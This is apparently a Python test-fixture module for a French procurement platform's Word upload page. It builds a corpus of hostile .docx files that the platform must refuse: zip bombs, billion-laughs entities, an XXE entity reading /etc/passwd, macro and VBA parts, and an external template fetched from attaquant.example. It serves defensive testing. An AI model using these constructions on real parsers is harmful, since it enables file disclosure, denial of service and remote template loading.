"""The hostile corpus: files the platform must refuse, each with its own French message.

Built in memory by the tests (nothing binary is committed). To get the files on disk, for a manual try on
the upload page: `.venv/bin/python tests/procurement/specifications/corpus/build.py OUTPUT_FOLDER`.
"""

import base64
import io
import random
import sys
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import docx

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MB = 1024 * 1024


@dataclass(frozen=True)
class HostileCase:
    name: str  # file name as uploaded
    code: str  # UnsafeDocument.code expected
    message: str  # a fragment of the French message expected
    build: object  # () -> bytes


def valid_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Article 1. Objet du marché")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(
    base: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: list[tuple[str, bytes]] | None = None,
    remove: set[str] | None = None,
    compresslevel: int | None = None,
) -> bytes:
    replace, add, remove = replace or {}, add or [], remove or set()
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in remove:
                continue
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # a duplicate name is the point of one case
            for name, data in add:
                target.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED, compresslevel)
    return output.getvalue()


def part(base: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        return archive.read(name).decode("utf-8")


def edit(base: bytes, name: str, old: str, new: str) -> bytes:
    text = part(base, name)
    assert old in text, f"{old!r} absent de {name}"
    return rezip(base, replace={name: text.replace(old, new, 1).encode("utf-8")})


def with_prolog(base: bytes, name: str, prolog: str) -> bytes:
    text = part(base, name)
    declaration_end = text.index("?>") + 2
    return rezip(base, replace={name: (text[:declaration_end] + prolog + text[declaration_end:]).encode("utf-8")})


def add_document_relationship(base: bytes, relationship: str) -> bytes:
    return edit(base, "word/_rels/document.xml.rels", "</Relationships>", relationship + "</Relationships>")


def not_a_zip() -> bytes:
    return b"Ceci est un texte, pas un document Word.\n"


def legacy_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


def damaged_zip() -> bytes:
    return b"PK\x03\x04" + bytes(range(256)) * 8


def bomb_size() -> bytes:
    return rezip(valid_docx(), add=[("word/media/bombe.bin", bytes(51 * MB))], compresslevel=9)


def bomb_ratio() -> bytes:
    return rezip(valid_docx(), add=[("word/media/bombe.bin", bytes(20 * MB))], compresslevel=9)


def bomb_entries() -> bytes:
    return rezip(valid_docx(), add=[(f"customXml/element{index}.xml", b"<a/>") for index in range(1001)])


def bomb_nodes() -> bytes:
    """12.6 MB of empty paragraphs (2,100,000 elements) in a 190 kB file, compressed only 82 times thanks to a
    paragraph of random text: only the count of elements refuses it (parsed and stamped, it took about 450 MB)."""
    base = valid_docx()
    noise = base64.b64encode(random.Random(65649).randbytes(135_000)).decode()
    body = "<w:p/>" * 2_100_000 + f"<w:p><w:r><w:t>{noise}</w:t></w:r></w:p>"
    return edit(base, "word/document.xml", "<w:sectPr", body + "<w:sectPr")


def duplicate_entries() -> bytes:
    base = valid_docx()
    other = part(base, "word/document.xml").replace("Objet du marché", "Autre document").encode()
    return rezip(base, add=[("word/document.xml", other)])


def doctype() -> bytes:
    return with_prolog(valid_docx(), "word/document.xml", "<!DOCTYPE w:document>")


def internal_entities() -> bytes:
    laughs = '<!DOCTYPE w:styles [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    return with_prolog(valid_docx(), "word/styles.xml", laughs)


def external_entity() -> bytes:
    base = with_prolog(
        valid_docx(), "word/settings.xml", '<!DOCTYPE w:settings [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    )
    usage = "<w:docVars><w:docVar w:name='x' w:val='&xxe;'/></w:docVars></w:settings>"
    return edit(base, "word/settings.xml", "</w:settings>", usage)


def macro_content_type() -> bytes:
    return edit(
        valid_docx(),
        "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def vba_project() -> bytes:
    return rezip(valid_docx(), add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(512))])


def external_template() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
        'Target="http://attaquant.example/modele.dotm" TargetMode="External"/></Relationships>'
    )
    return rezip(valid_docx(), add=[("word/_rels/settings.xml.rels", rels.encode())])


def external_image() -> bytes:
    return add_document_relationship(
        valid_docx(),
        f'<Relationship Id="rIdX1" Type="{R}/image" Target="http://traceur.example/pixel.png" TargetMode="External"/>',
    )


def alt_chunk() -> bytes:
    base = add_document_relationship(
        valid_docx(), f'<Relationship Id="rIdX2" Type="{R}/aFChunk" Target="afchunk.htm"/>'
    )
    base = edit(base, "word/document.xml", "<w:sectPr", '<w:altChunk r:id="rIdX2"/><w:sectPr')
    return rezip(base, add=[("word/afchunk.htm", b"<html><body>Contenu importe</body></html>")])


def ole_object() -> bytes:
    base = add_document_relationship(
        valid_docx(), f'<Relationship Id="rIdX3" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
    )
    return rezip(base, add=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + bytes(512))])


def activex() -> bytes:
    return rezip(valid_docx(), add=[("word/activeX/activeX1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>')])


def missing_document() -> bytes:
    return rezip(valid_docx(), remove={"word/document.xml"})


def malformed_xml() -> bytes:
    base = valid_docx()
    return rezip(base, replace={"word/document.xml": part(base, "word/document.xml")[:-40].encode()})


def strict_ooxml() -> bytes:
    return edit(
        valid_docx(),
        "word/document.xml",
        f'xmlns:w="{W}"',
        'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"',
    )


CASES = [
    HostileCase("texte.docx", "not_a_zip", "son contenu n'est pas reconnu", not_a_zip),
    HostileCase("ancien.docx", "ole_file", "document Word ancien (.doc)", legacy_doc),
    HostileCase("abime.docx", "damaged_zip", "l'archive est endommagée", damaged_zip),
    HostileCase("bombe-taille.docx", "too_large", "dépasse 50\u00a0Mo une fois décompressé", bomb_size),
    HostileCase("bombe-ratio.docx", "compression_ratio", "anormalement compressé", bomb_ratio),
    HostileCase("bombe-fichiers.docx", "too_many_entries", "plus de 1000 éléments", bomb_entries),
    HostileCase("bombe-elements.docx", "too_complex", "trop complexe pour être complété", bomb_nodes),
    HostileCase("doublon.docx", "duplicate_entries", "deux éléments portant le même nom", duplicate_entries),
    HostileCase("doctype.docx", "doctype", "déclaration DOCTYPE (partie «\u00a0word/document.xml\u00a0»)", doctype),
    HostileCase(
        "entites.docx",
        "xml_entities",
        "déclare des entités XML (partie «\u00a0word/styles.xml\u00a0»)",
        internal_entities,
    ),
    HostileCase(
        "xxe.docx", "external_entity", "entité XML externe (partie «\u00a0word/settings.xml\u00a0»)", external_entity
    ),
    HostileCase("macros.docm", "macro_extension", "document Word avec macros (.docm)", valid_docx),
    HostileCase(
        "macros-type.docx",
        "macros",
        "macros (code VBA\u00a0: partie «\u00a0word/document.xml\u00a0» de type macro)",
        macro_content_type,
    ),
    HostileCase("vba.docx", "macros", "macros (code VBA\u00a0: «\u00a0word/vbaProject.bin\u00a0»)", vba_project),
    HostileCase("modele-externe.docx", "external_relationship", "modèle de document", external_template),
    HostileCase(
        "image-externe.docx",
        "external_relationship",
        "(image\u00a0: «\u00a0http://traceur.example/pixel.png\u00a0»)",
        external_image,
    ),
    HostileCase("altchunk.docx", "altchunk", "altChunk", alt_chunk),
    HostileCase("ole.docx", "ole_object", "objet OLE", ole_object),
    HostileCase("activex.docx", "activex", "contrôles ActiveX", activex),
    HostileCase("cahier.pdf", "wrong_extension", "Seuls les documents Word au format .docx", valid_docx),
    HostileCase("sans-document.docx", "not_a_document", "ne contient pas de document Word", missing_document),
    HostileCase(
        "xml-casse.docx", "malformed_xml", "«\u00a0word/document.xml\u00a0» n'est pas un XML valide", malformed_xml
    ),
    HostileCase("strict.docx", "strict_ooxml", "Strict Open XML", strict_ooxml),
]


def main(folder: str) -> None:
    target = Path(folder)
    target.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (target / case.name).write_bytes(case.build())
        print(f"{case.name} : {case.code}")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "corpus-hostile")
